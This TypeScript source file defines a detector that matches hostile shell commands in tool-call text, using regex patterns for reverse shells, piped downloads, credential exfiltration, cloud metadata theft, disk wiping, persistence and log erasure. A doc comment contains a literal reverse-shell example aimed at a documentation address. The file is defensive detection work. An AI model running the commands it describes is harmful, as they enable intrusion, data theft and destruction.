import { type Sign, type SignPattern, signsOf } from "./sign.ts";

interface CommandPattern extends SignPattern {
  /** One of these is always in it: a quick look before the search. */
  readonly signs: readonly string[];
}

/** What runs its input: a shell, or another language's program without a script of its own. */
const SHELL = "(?:(?:ba|z|da|k|fi)?sh\\b|(?:python[23]?|perl|ruby|node|php)(?: -)?(?=\\s*(?:$|[;&|\"'])))";

/** What no work needs. */
const PATTERNS: readonly CommandPattern[] = [
  {
    name: "reverse-shell",
    weight: 3,
    signs: ["/dev/tcp/", "/dev/udp/"],
    form: /\/dev\/(?:tcp|udp)\/[\w.$[\]{}-]{1,80}\/[\w$]{1,20}/g,
  },
  {
    name: "reverse-shell",
    weight: 3,
    signs: ["nc ", "ncat ", "netcat ", "socat ", "mkfifo "],
    form: /\b(?:nc|ncat|netcat)\b[^\n;|&]{0,60}? -[a-z]*[ec] ?(?:\/bin\/|\/usr\/bin\/|cmd|powershell|"?(?:ba)?sh)|\bmkfifo\b[^\n]{0,120}?\b(?:nc|ncat|netcat|openssl)\b|\bsocat\b[^\n]{0,120}?\bexec:/g,
  },
  {
    name: "reverse-shell",
    weight: 3,
    signs: ["socket", "tcpclient", "pty.spawn", "/bin/sh", "/bin/bash"],
    form: /\bsocket\b[^\n]{0,240}?\b(?:dup2|subprocess\.(?:call|popen|run)\(\[?["']\/bin)|\btcpclient\([^\n]{0,240}?\b(?:getstream|invoke-expression|iex)\b|\bpty\.spawn\(["']\/bin|\bfsockopen\([^\n]{0,160}?\b(?:exec|proc_open|shell_exec)\b/g,
  },
  {
    name: "decoded-into-shell",
    weight: 3,
    signs: ["base64 ", "b64decode", "frombase64string", "xxd "],
    form: new RegExp(
      `\\bbase64 (?:-d|--decode|-di)\\b[^\\n;]{0,80}?\\| ?(?:sudo )?(?:/bin/|/usr/bin/)?${SHELL}|\\bxxd -r[^\\n;]{0,60}?\\| ?(?:sudo )?(?:/bin/)?${SHELL}|\\b(?:exec|eval|os\\.system)\\( ?(?:base64\\.|__import__\\(["']base64["']\\)\\.)?b64decode|\\beval "?\\$\\([^\\n]{0,200}?base64 (?:-d|--decode)|\\b(?:iex|invoke-expression)\\b[^\\n]{0,80}?frombase64string`,
      "g",
    ),
  },
  {
    name: "encoded-powershell",
    weight: 3,
    signs: ["powershell", "pwsh"],
    form: /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n;|]{0,80}? -e(?:nc|ncodedcommand|c)? [a-z0-9+/=]{16,}|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}?\b(?:iex|invoke-expression)\b[^\n]{0,80}?\b(?:downloadstring|invoke-webrequest|iwr)\b/g,
  },
  {
    name: "downloaded-into-shell",
    weight: 3,
    signs: ["curl ", "wget "],
    form: new RegExp(
      `\\b(?:curl|wget)\\b[^\\n;|&]{0,120}?(?:http://(?!localhost|127\\.0\\.0\\.1)|https?://(?:\\d{1,3}\\.){3}\\d{1,3}|https?://(?!localhost|127\\.)[^ /]{1,80}:\\d{2,5}/|https?://(?:pastebin\\.com|transfer\\.sh|[\\w-]{1,60}\\.(?:ngrok(?:-free)?\\.(?:io|app)|trycloudflare\\.com|onion|tk|top|xyz|ru))/)[^\\n;]{0,160}?\\| ?(?:sudo )?(?:/bin/|/usr/bin/)?${SHELL}`,
      "g",
    ),
  },
  {
    name: "downloaded-into-shell",
    weight: 1,
    signs: ["curl ", "wget "],
    form: new RegExp(
      `\\b(?:curl|wget)\\b[^\\n;]{0,200}?\\| ?(?:sudo )?(?:-\\w+ )?(?:/bin/|/usr/bin/)?${SHELL}|\\b(?:ba)?sh (?:-c )?["']?(?:<\\(|\\$\\()(?:curl|wget)\\b`,
      "g",
    ),
  },
  {
    name: "downloaded-and-run",
    weight: 2,
    signs: ["chmod "],
    form: /\b(?:curl|wget)\b[^\n]{0,200}?\bchmod (?:\+x|[0-7]?7[0-7]{2}) ?\/(?:tmp|dev\/shm|var\/tmp)\/[^\n]{0,80}?(?:&&|;) ?(?:nohup |sudo )?\/?(?:tmp|dev\/shm|var\/tmp|\.\/)/g,
  },
  {
    name: "sent-out",
    weight: 3,
    signs: ["curl ", "wget "],
    form: /\bcurl\b[^\n;]{0,160}?(?:(?:-d|--data(?:-binary|-raw|-urlencode)?|-f|--form|-t|--upload-file)[ =]?["']?(?:\w+=)?@?(?:[^ \n]{0,60})?(?:\.aws\/credentials|\.ssh\/|\.env\b|\/etc\/(?:passwd|shadow)|id_rsa|\.kube\/config|\/proc\/self\/environ|\$\((?:env|printenv|cat|aws)\b|`(?:env|printenv|cat)\b))|\b(?:env|printenv|cat [^\n|;]{0,60}(?:\.aws\/credentials|\.ssh\/id_|\/etc\/shadow|\.env\b|\.kube\/config))\b[^\n;]{0,60}?\| ?(?:base64[^|\n]{0,12}\| ?)?(?:curl|nc|ncat|wget)\b/g,
  },
  {
    name: "metadata-credentials",
    weight: 3,
    signs: [
      "169.254.",
      "security-credentials",
      "0xa9fe",
      "2852039166",
      "metadata.google",
      "fd00:ec2",
      "container_credentials",
    ],
    form: /(?:169\.254\.169\.254|169\.254\.170\.\d{1,3}|0xa9fea9fe|2852039166|\[?fd00:ec2::254\]?|\[::ffff:a9fe:a9fe\])[^ \n]{0,60}?(?:security-credentials|\/v2\/credentials|iam\/info)|169\.254\.170\.(?:2|23)\$?\{?(?:aws_container|\/)|0xa9fea9fe|\/\/2852039166|metadata\.google\.internal[^ \n]{0,80}?\/token|\[::ffff:a9fe:a9fe\]/g,
  },
  {
    name: "metadata-address",
    weight: 1,
    signs: ["169.254.169.254"],
    form: /169\.254\.169\.254/g,
  },
  {
    name: "disk-wiped",
    weight: 3,
    signs: ["rm ", "mkfs", "dd ", "/dev/sd", "/dev/nvme"],
    form: /\brm (?:-[a-z-]+ )*-(?:[a-z]*r[a-z]*f|[a-z]*f[a-z]*r|-recursive|r)[a-z]* (?:-[a-z-]+ )*(?:\/|~|\$home|\/\*|~\/\*|\/(?:etc|usr|var|home|boot|bin|lib|root)\/?\*?)(?=$|[\s;&|"'])|--no-preserve-root|\bmkfs\.\w+ (?:-\w+ )*\/dev\/|\bdd if=\/dev\/(?:zero|u?random) of=\/dev\/(?:sd|nvme|xvd)/g,
  },
  { name: "fork-bomb", weight: 3, signs: [":|:", ": | :"], form: /:\(\) ?\{ ?: ?\| ?:/g },
  {
    name: "iam-persistence",
    weight: 2,
    signs: ["iam ", "iam."],
    form: /\baws iam (?:create-access-key|create-login-profile|update-login-profile|update-assume-role-policy|create-service-specific-credential)\b|\baws iam attach-(?:user|role|group)-policy\b[^\n]{0,160}?administratoraccess|\baws iam put-user-policy\b|\.(?:create_access_key|create_login_profile|update_assume_role_policy|create_service_specific_credential)\(/g,
  },
  {
    name: "iam-user-made",
    weight: 1,
    signs: ["iam "],
    form: /\baws iam (?:create-user|add-user-to-group|attach-(?:user|role)-policy)\b|\baws sts (?:get-session-token|assume-role)\b/g,
  },
  {
    name: "key-planted",
    weight: 3,
    signs: ["authorized_keys"],
    form: />> ?["']?[^ \n]{0,60}\/?\.ssh\/authorized_keys|\btee -a [^ \n]{0,60}\.ssh\/authorized_keys/g,
  },
  {
    name: "job-planted",
    weight: 2,
    signs: ["cron"],
    form: /\|[^\n]{0,12}\bcrontab -|>> ?["']?\/etc\/(?:crontab|cron\.[a-z]+\/)/g,
  },
  {
    name: "credential-file",
    weight: 2,
    signs: [
      ".aws/credentials",
      "/etc/shadow",
      ".ssh/id_",
      "/environ",
      "/var/run/secrets/",
      ".kube/config",
      ".git-credentials",
    ],
    form: /\b(?:cat|less|more|head|tail|cp|scp|tar|base64|strings|grep|xxd|zip|type)\b[^\n;|]{0,80}?(?:\.aws\/credentials|\/etc\/shadow|\.ssh\/id_(?:rsa|ed25519|ecdsa)(?!\.pub)|\/proc\/(?:self|1)\/environ|\/var\/run\/secrets\/(?:kubernetes|eks)[^ \n]{0,60}token|\.git-credentials)/g,
  },
  {
    name: "traces-removed",
    weight: 2,
    signs: ["history", "stop-logging", "delete-trail", "auditd", "wtmp"],
    form: /\bhistory -c\b|\bunset histfile\b|\bhistfile=\/dev\/null|>\/? ?~?\/?\.?bash_history|\baws cloudtrail (?:stop-logging|delete-trail)\b|\baws bedrock delete-(?:model-invocation-logging|guardrail)\b|\b(?:systemctl|service) (?:stop|disable) auditd\b|>\s?\/var\/log\/(?:wtmp|auth|secure)/g,
  },
  {
    name: "miner",
    weight: 3,
    signs: ["xmrig", "stratum+", "minerd"],
    form: /\bxmrig\b|\bstratum\+(?:tcp|ssl):\/\/|\bminerd\b/g,
  },
  {
    name: "root-escape",
    weight: 2,
    signs: ["/etc/sudoers", "chmod ", "docker.sock", "--privileged", "nsenter "],
    form: />> ?["']?\/etc\/sudoers|\bchmod (?:u?\+s|[4-7][0-7]{3}) (?:\/bin|\/usr\/bin|\/tmp)\/(?:ba)?sh|\bnsenter\b[^\n]{0,40}?-t ?1\b|\bdocker run\b[^\n]{0,120}?-v ?\/:\/[^\n]{0,60}/g,
  },
];

/**
 * Commands in a text that harm or rob a machine or an account. It is made for the calls of tools; prose that names
 * commands has them too.
 *
 * @param text lower case, with its line breaks
 * @example
 * findCommands("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"); // [{ name: "reverse-shell", weight: 3 }]
 */
export function findCommands(text: string): readonly Sign[] {
  const there = PATTERNS.filter(({ signs }) => signs.some((sign) => text.includes(sign)));
  return signsOf(text, there, (_text, _at, _length, weight) => weight).map(({ name, weight }) => ({
    name,
    weight,
  }));
}
